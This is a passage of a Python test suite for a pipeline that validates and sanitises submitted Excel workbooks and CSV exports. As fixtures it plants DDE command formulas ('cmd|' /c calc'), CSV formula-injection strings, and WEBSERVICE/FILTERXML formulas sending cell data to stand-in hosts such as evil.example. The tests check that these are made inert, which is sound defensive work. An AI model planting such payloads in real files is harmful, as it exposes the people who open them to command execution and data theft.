        ("Site;-5+cmd|' /c calc'!A0", "Site;'-5+cmd|' /c calc'!A0"),  # a number's start is no number
        ("=1;=2", "'=1;'=2"),
        ("-5", "-5"),  # a number alone stays one
        ("Nairobi - Gigiri", "Nairobi - Gigiri"),
    ],
)
def test_no_field_of_a_csv_split_at_any_separator_starts_a_formula(typed, written):
    assert safe.csv_safe(typed) == written
    [(got,)] = duckdb.execute(f"SELECT {safe.csv_safe_sql('v')} FROM (SELECT ?::VARCHAR AS v)", [typed]).fetchall()
    assert got == written


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12))
def test_csv_rule_in_sql_is_the_python_rule(value):
    [(got,)] = duckdb.execute(f"SELECT {safe.csv_safe_sql('v')} FROM (SELECT ?::VARCHAR AS v)", [value]).fetchall()
    assert got == safe.csv_safe(value)


@pytest.mark.parametrize("value", ["=1\x1b[2J", "\x1b[31m=x", "\r\nx", "a\tb\nc", "\u202egnp", "\x9b1m", "", "-5"])
def test_csv_rule_in_sql_on_known_cases(value):
    [(got,)] = duckdb.execute(f"SELECT {safe.csv_safe_sql('v')} FROM (SELECT ?::VARCHAR AS v)", [value]).fetchall()
    assert got == safe.csv_safe(value)
    assert not safe._CSV_CONTROL.search(got)


def external_link_workbook(path: Path) -> Path:
    """A submission with an external link part, a DDE formula, a cross-file formula and a web link."""
    sheets = valid_sheets("UNEP")
    sheets["Facilities"][1][6] = "estimated typo"  # one finding, so an annotated copy is made
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    fac = wb["Facilities"]
    fac["J2"] = "=cmd|' /c calc'!A1"
    fac["J3"] = "=[1]Sheet1!A1*2"
    fac["J4"] = "=D2*2"
    fac["J5"] = '=WEBSERVICE("http://example.org/?"&A1)'
    fac["K2"].hyperlink = "http://example.org/phish"
    fac["J6"] = '=MAP({"http://example.org/leak"},WEBSERVICE)'  # a function passed by its name alone
    fac["J7"] = '=_xlfn.TRANSLATE(A2&" "&D2,"en","fr")'  # Excel 365 functions that send cells to a service
    fac["J8"] = '=_xlfn.COPILOT("summarise",A2:G2)'
    fac["J9"] = '=_xlfn.STOCKHISTORY("MSFT",1)'
    fac["J10"] = "=\u00f1(A2)"  # a name (a LAMBDA, say) called as a function, in any script
    fac["J11"] = "=_xlfn.XLOOKUP(A2,A2:A4,D2:D4)+SUM(D2:D4)"
    fac["K3"].hyperlink = Hyperlink(ref="K3", target="http://example.org/phish2", location="A1")
    fac.conditional_formatting.add("K4", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://example.org/cf"))']))
    fac.conditional_formatting.add("D2:D4", FormulaRule(formula=["D2>1000000"], fill=PatternFill("solid", "FFFF00")))
    buffer = io.BytesIO()
    wb.save(buffer)
    parts = odd_files.members(buffer.getvalue())
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook '
        b'r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    path.write_bytes(odd_files.repack(parts))
    return path


def test_annotated_copy_strips_external_links_dde_and_calls_out(tmp_path):
    path = external_link_workbook(tmp_path / "linked.xlsx")
    assert "xl/externalLinks/externalLink1.xml" in odd_files.members(path.read_bytes())
    [sub] = api.check_files([path], jobs=1)
    assert sub.findings
    out = tmp_path / "annotated.xlsx"
    assert annotate_many([(path, sub.findings, out)])[out] == "annotated"
    parts = odd_files.members(out.read_bytes())
    assert not [name for name in parts if "externalLink" in name]
    everything = b"".join(parts.values())
    assert b"other.xlsx" not in everything and b'Target="http://example.org/phish"' not in everything
    assert b'Target="http://example.org/phish2"' not in everything  # a link with a target and a location goes too
    fac = load_workbook(out)["Facilities"]
    for ref in ("J2", "J3", "J5", "J6", "J7", "J8", "J9", "J10"):
        assert fac[ref].data_type == "s" and fac[ref].quotePrefix, ref  # inert text, shown as typed
    assert fac["J4"].data_type == "f" and fac["J4"].value == "=D2*2"  # the focal point's own formulas stay
    assert fac["J11"].data_type == "f"
    rules = [rule.formula for cf in fac.conditional_formatting for rule in cf.rules]
    assert rules == [["D2>1000000"]]  # the rule calling out went, the focal point's own stays


@settings(max_examples=300, deadline=None)
@given(
    name=st.text(alphabet=st.characters(categories=["L"]), min_size=1, max_size=12),
    prefix=st.sampled_from(["", "_xlfn.", "_xlfn._xlws.", "_xludf."]),
    around=st.sampled_from(["={}(A1)", "=1+{}(A1:B2)", '=IF(A1,{}("x"),0)', "=SUM({}(A1),2)"]),
)
def test_a_formula_calling_any_function_but_the_safe_ones_is_inert(name, prefix, around):
    """Whatever a function is called (Excel adds new ones that call out every year), a formula
    calling it is inert in the copy unless the function is one of the few known to stay inside."""
    from pipeline.intake.annotate import SAFE_FUNCTIONS, reaches_outside

    called = prefix + name
    safe = prefix != "_xludf." and name.upper() in SAFE_FUNCTIONS
    assert reaches_outside(around.format(called)) is not safe


# --- 9. a damaged database and a read-only folder get one plain line --------------------------


@pytest.mark.parametrize("keep", [100, 12_288, 300_000, -50_000])
def test_truncated_database_is_reported_and_left_untouched(inputs, capsys, keep):
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    assert gtb_run(inputs) == 0
    db = inputs.parent / "out" / "gtb.duckdb"
    data = db.read_bytes()
    db.write_bytes(data[:keep] if keep > 0 else data[:keep])
    damaged = db.read_bytes()
    capsys.readouterr()
    for argv in (
        ["run", "--inputs", str(inputs), "--db", str(db), "--outputs", str(db.parent)],
        ["indicators", "--year", "2024", "--db", str(db)],
    ):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "internal error" not in err and "left untouched" in err, err
        assert db.read_bytes() == damaged


ANALYST_COMMANDS = (
    ["accept", "UNEP", "2024", "--reason", "checked"],
    ["recalculate", "--year", "2024", "--factor-set", "gtb-2025.1", "--reason", "checked"],
    ["status", "--year", "2024"],
    ["compare", "UNEP", "--year", "2024"],
    ["indicators", "--year", "2024"],
)


@pytest.mark.parametrize("argv", ANALYST_COMMANDS, ids=lambda argv: argv[0])
def test_a_mistyped_database_path_is_not_created(tmp_path, capsys, argv):
    """`gtb accept` and `gtb recalculate` change a warehouse `gtb run` made: a path where there is
    none (a typo in --db) is one line and exit 2, and neither the file nor its folders appear."""
    db = tmp_path / "typo" / "sub" / "gtb.duckdb"
    assert main([*argv, "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no database at" in err, err
    assert not (tmp_path / "typo").exists()


@pytest.mark.parametrize("argv", [*ANALYST_COMMANDS, ["run", "--inputs", "IN", "--outputs", "OUT"]], ids=lambda a: a[0])
@pytest.mark.parametrize("content", ["another program's tables", "nothing"])
def test_a_duckdb_file_of_another_program_is_left_untouched(inputs, capsys, argv, content):
    """A DuckDB file that holds tables gtb did not make is never migrated into; an empty one is
    no warehouse to read (a new one to write, for `gtb run` only)."""
    db = inputs.parent / "other.duckdb"
    with duckdb.connect(str(db)) as con:
        if content != "nothing":
            con.execute("CREATE TABLE customers (id INTEGER); INSERT INTO customers VALUES (1)")
    before = db.read_bytes()
    argv = [str(inputs) if a == "IN" else str(inputs.parent / "out") if a == "OUT" else a for a in argv]
    code = main([*argv, "--db", str(db)])
    err = capsys.readouterr().err
    if content == "nothing" and argv[0] == "run":
        return  # an empty DuckDB file is a new warehouse to `gtb run`: made one, then judged as any other
    assert code == 2 and err.count("\n") == 1 and "internal error" not in err, err
    assert ("another program" in err) if content != "nothing" else ("no warehouse yet" in err)
    assert db.read_bytes() == before


@pytest.mark.parametrize("year", ["0", "-5", "99999", "99999999999999999999", "2024.5", "MMXXIV"])
def test_a_year_argument_that_is_no_year_is_one_line(capsys, year):
    """Every command's year: 1900 to 2999, else one line and exit 2 (a 20-digit year reached
    DuckDB's INTEGER as an internal error; year 0 gave an empty tracker and exit 0)."""
    for argv in (["status", "--year", year], ["accept", "UNEP", year, "--reason", "x"], ["template", "UNEP", year]):
        with pytest.raises(SystemExit) as stopped:
            main(argv)
        err = capsys.readouterr().err
        assert stopped.value.code == 2 and err.count("\n") == 1 and "is not a year" in err, err


@pytest.mark.parametrize("jobs", ["0", "-2", "two", "1.5"])
def test_a_jobs_argument_that_is_no_number_of_processes_is_one_line(capsys, jobs, tmp_path):
    """--jobs 0 or -2 was taken as 1 without a word, and the command ran (exit 0)."""
    for argv in (["validate", str(tmp_path / "x.xlsx")], ["run"], ["report", "--year", "2024"]):
        with pytest.raises(SystemExit) as stopped:
            main([*argv, "--jobs", jobs])
        err = capsys.readouterr().err
        assert stopped.value.code == 2 and err.count("\n") == 1 and "number of processes" in err, err


def test_recalculating_a_year_without_data_is_refused_and_not_logged(inputs, capsys):
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    assert gtb_run(inputs) == 0
    db = inputs.parent / "out" / "gtb.duckdb"
    argv = ["recalculate", "--year", "2019", "--factor-set", "gtb-2025.1", "--reason", "x", "--db", str(db)]
    assert main(argv) == 2
    assert "no loaded submission for 2019" in capsys.readouterr().err
    assert query(db, "SELECT count(*) FROM recalculations") == [(0,)]


def test_the_database_header_size_matches_what_the_check_assumes(inputs):
    from pipeline.warehouse.db import HEADER_BYTES, _last_used_block

    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    gtb_run(inputs)
    db = inputs.parent / "out" / "gtb.duckdb"
    [(block_size, blocks)] = query(db, "SELECT block_size, total_blocks FROM pragma_database_size()")
    assert db.stat().st_size == HEADER_BYTES + block_size * blocks  # a fresh file: every block written
    with duckdb.connect(str(db), read_only=True) as con:
        size, last = _last_used_block(con)
    assert size == block_size and last == blocks - 1, "the file's last block is in use"


def test_a_database_with_free_blocks_trimmed_at_the_end_is_whole(tmp_path):
    """A checkpoint writes the header, then trims free blocks off the end of the file: the header
    counts more blocks than the file holds, and the file is whole."""
    from pipeline.errors import GtbError
    from pipeline.warehouse.db import HEADER_BYTES, check_file

    db = tmp_path / "gtb.duckdb"
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE kept AS SELECT range AS i FROM range(10)")
        for n, name in ((3_000_000, "a"), (6_000_000, "c")):  # big tables written, then dropped
            con.execute(f"CREATE TABLE scratch_{name} AS SELECT range AS i, random() AS x FROM range({n})")
            con.execute("CHECKPOINT")
            con.execute(f"DROP TABLE scratch_{name}")
            con.execute("CHECKPOINT")
    [(block_size, total, free)] = query(db, "SELECT block_size, total_blocks, free_blocks FROM pragma_database_size()")
    assert free > 0 and db.stat().st_size < HEADER_BYTES + block_size * total, "the header counts trimmed blocks"
    check_file(db)  # whole: no error
    assert query(db, "SELECT count(*) FROM kept") == [(10,)]
    cut = tmp_path / "cut.duckdb"
    cut.write_bytes(db.read_bytes()[: HEADER_BYTES + block_size])  # but a real cut is still caught
    with pytest.raises(GtbError, match="damaged"):
        check_file(cut)


def test_read_only_outputs_folder_is_one_plain_line(inputs):
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    out = inputs.parent / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        done = gtb_process(
            "run", "--inputs", str(inputs), "--outputs", str(out), "--db", str(out / "gtb.duckdb"), cwd=inputs.parent
        )
        done_validate = gtb_process(
            "validate",
            str(inputs / "submissions" / "UNEP_2024.xlsx"),
            "--report-dir",
            str(out / "v"),
            cwd=inputs.parent,
        )
    finally:
        out.chmod(0o755)
    for result in (done, done_validate):
        assert result.returncode == 2, result.stderr
        assert result.stderr.count("\n") == 1 and "internal error" not in result.stderr
        assert "ermission denied" in result.stderr
    assert not any(out.iterdir())


# --- 10. guard scans stay linear ---------------------------------------------------------------


@pytest.mark.parametrize(
    "cells",
    [
        '<row r="1">' + '<c t="e" ' * 200_000,
        '<row r="1">' + '<c r="A1" t="e"><v>#N/A' * 50_000,
        "<dimension " * 200_000,
        '<row r="1">' + '<c r="A1"><f ' * 100_000,
        '<row r="1">' + '<c a="' * 200_000,
    ],
    ids=["unclosed-error-cells", "unclosed-error-values", "unclosed-dimensions", "unclosed-formulas", "open-quotes"],
)
def test_pathological_sheet_xml_gets_a_verdict_not_a_timeout(tmp_path, cells):
    path = hostile.minimal_xlsx(tmp_path / "patho.xlsx", {"Facilities": hostile.sheet_xml(cells)})
    [(_, result)] = list(read_many([path], jobs=1, limits=Limits(reader_timeout_s=20)))
    assert getattr(result, "kind", None) != "timeout"


def test_error_cells_without_a_reference_are_found(tmp_path):
    """The exact walk (cells without r=) now finds Excel error cells too."""
    sheet = hostile.sheet_xml('<row><c><v>1</v></c><c t="e"><v>#DIV/0!</v></c></row>')
    path = hostile.minimal_xlsx(tmp_path / "noref.xlsx", {"Facilities": sheet})
    [(_, raw)] = list(read_many([path], jobs=1))
    assert raw.sheets["Facilities"].error_cells == {"B1": "#DIV/0!"}


def test_no_partial_copy_is_left_behind(tmp_path):
    """annotate writes through a temporary file; none remains after a copy or a fallback."""
    for mutation in ("empty-style", "garbage-date-cell"):
        path = odd_files.mutated(tmp_path, f"{mutation}.xlsx", mutation)
        [sub] = api.check_files([path], jobs=1)
        annotate_many([(path, sub.findings, tmp_path / mutation / "annotated.xlsx")])
        assert sorted(p.name for p in (tmp_path / mutation).iterdir()) == ["annotated.xlsx"]


def test_an_annotated_copy_written_at_a_link_replaces_the_file_it_names(tmp_path):
    """Written whole, as every other output (`paths.write_whole`): a link in the report folder is
    followed, not replaced by a file of its own."""
    path = odd_files.mutated(tmp_path, "odd.xlsx", "empty-style")
    [sub] = api.check_files([path], jobs=1)
    kept = tmp_path / "kept" / "annotated.xlsx"
    kept.parent.mkdir()
    kept.write_bytes(b"old")
    (tmp_path / "report").mkdir()
    link = tmp_path / "report" / "annotated.xlsx"
    link.symlink_to(kept)
    annotate_many([(path, sub.findings, link)])
    assert link.is_symlink() and load_workbook(kept).sheetnames[0] == "Validation summary"
    assert sorted(p.name for p in kept.parent.iterdir()) == ["annotated.xlsx"]


def _chatty(value: int) -> int:
    print(f"{value} is out of range")  # what openpyxl prints on a damaged style table
    os.write(1, b"raw bytes on fd 1\n")
    return value * 2


def test_a_worker_never_prints_on_the_users_console(capfd):
    from pipeline.workers import run_isolated

    results = dict(run_isolated([(i, (i,)) for i in range(3)], _chatty, jobs=2))
    assert results == {0: 0, 1: 2, 2: 4}
    out, err = capfd.readouterr()
    assert "out of range" not in out + err and "raw bytes" not in out + err


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet="AB-–‐ 0123456789\u200b\uff10", max_size=14) | st.integers(0, 10**6), max_size=8))
def test_a_serial_is_stored_in_its_one_spelling(values):
    import pandas as pd

    from pipeline.emissions import prepare

    keys = prepare.serial_key(pd.Series(values, dtype=object))
    assert keys.tolist() == [serials.normalise(v) for v in values]


@given(st.binary(max_size=40))
def test_a_file_name_of_any_bytes_is_text_that_can_be_stored(raw):
    """`safe.file_name` of any name Linux allows: valid UTF-8 text, the same name back when it
    was UTF-8, each byte that is not shown as its escape otherwise."""
    name = os.fsdecode(raw)
    shown = safe.file_name(name)
    shown.encode("utf-8")  # storable: no lone surrogate
    try:
        assert shown == raw.decode("utf-8")
    except UnicodeDecodeError:
        assert shown == raw.decode("utf-8", "backslashreplace")


def test_annotated_copy_drops_table_and_colour_scale_formulas_that_call_out(tmp_path):
    """An Excel table's calculated column (Excel fills it into every row added to the table) and a
    colour scale's values (`<cfvo type="formula">`, evaluated as the sheet is drawn) kept their
    WEBSERVICE calls in the copy, past the checks of cells, names, validations and rules."""
    from openpyxl.formatting.rule import ColorScaleRule
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.table import Table, TableColumn, TableFormula

    path = write_workbook(tmp_path / "UNEP_2024.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "D2", -5))
    wb = load_workbook(path)
    ws = wb["Facilities"]
    headers = [c.value for c in ws[1]]
    table = Table(displayName="Sites", ref=f"A1:{get_column_letter(len(headers))}{ws.max_row}")
    table.tableColumns = [TableColumn(id=i + 1, name=str(h)) for i, h in enumerate(headers)]
    table.tableColumns[-1].calculatedColumnFormula = TableFormula(attr_text='WEBSERVICE("https://evil.example/?t="&A2)')
    table.tableColumns[0].totalsRowFormula = TableFormula(
        attr_text='FILTERXML(WEBSERVICE("https://evil.example/"),"//a")'
    )
    table.tableColumns[0].totalsRowFunction = "custom"  # as Excel writes a total row's own formula
    table.tableColumns[3].totalsRowFormula = TableFormula(attr_text="SUM(D2:D9)")  # stays
    ws.add_table(table)
    ws.conditional_formatting.add(
        "D2:D9",
        ColorScaleRule(
            start_type="formula",
            start_value='WEBSERVICE("https://evil.example/cs")',
            start_color="FF0000",
            end_type="max",
            end_color="00FF00",
        ),
    )
    ws.conditional_formatting.add(
        "E2:E9",
        ColorScaleRule(start_type="formula", start_value="MIN($D$2:$D$9)", start_color="FF0000", end_type="max"),
    )
    wb.save(path)
    [sub] = api.check_files([path], jobs=1)
    out = tmp_path / "annotated.xlsx"
    assert annotate_many([(path, sub.findings, out)])[out] == "annotated"
    everything = b"".join(odd_files.members(out.read_bytes()).values())
    assert b"WEBSERVICE" not in everything and b"evil.example" not in everything
    copy = load_workbook(out)["Facilities"]
    [kept] = copy.tables.values()
    assert kept.tableColumns[0].totalsRowFunction is None, "no 'custom' total left without its formula"
    assert [c.totalsRowFormula.attr_text for c in kept.tableColumns if c.totalsRowFormula] == ["SUM(D2:D9)"]
    scales = [rule.colorScale.cfvo[0].val for cf in copy.conditional_formatting for rule in cf.rules]
    assert scales == ["MIN($D$2:$D$9)"]  # the focal point's own scale stays
